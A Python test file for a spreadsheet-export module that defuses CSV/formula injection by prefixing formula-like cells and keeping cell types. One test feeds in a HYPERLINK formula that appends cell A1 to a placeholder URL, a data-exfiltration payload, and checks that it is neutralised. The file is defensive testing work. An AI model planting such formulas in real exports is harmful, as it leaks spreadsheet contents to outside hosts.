"""The exports' one rule for cells: nothing a spreadsheet would run, text as text, numbers as
numbers (OWASP's CSV injection rule)."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import Workbook

from phaseout_aggregator.app.exports import append, csv_text, neutralise


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_text_starting_like_a_formula_is_prefixed(start: str) -> None:
    assert neutralise(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("value", ["深圳市某水泥有限公司", "kiln", "", "a=b", -1, Decimal("-2.5")])
def test_other_cells_are_kept(value: object) -> None:
    assert neutralise(value) == value


def test_csv_neutralises_every_cell_and_only_the_chinese_one_has_a_bom() -> None:
    rows = [["名称", "产能"], ['=HYPERLINK("http://x"&A1,"x")', Decimal("-3")]]
    zh, en = csv_text(rows, "zh"), csv_text(rows, "en")
    assert zh.startswith("\ufeff") and not en.startswith("\ufeff")
    table = list(csv.reader(io.StringIO(en)))
    assert table[1] == ['\'=HYPERLINK("http://x"&A1,"x")', "-3"]


def test_a_workbook_stores_text_as_text_and_numbers_as_numbers() -> None:
    sheet = Workbook().active
    assert sheet is not None
    append(sheet, ["=1+1", "#N/A", Decimal("800000"), 3, date(2019, 6, 20)])
    name, code, amount, count, day = sheet[1]
    assert (name.data_type, name.value) == ("s", "'=1+1")
    assert (code.data_type, code.value) == ("s", "#N/A"), "an error code's text stays text"
    assert (amount.data_type, amount.value) == ("n", 800000.0)
    assert (count.data_type, day.data_type) == ("n", "d")
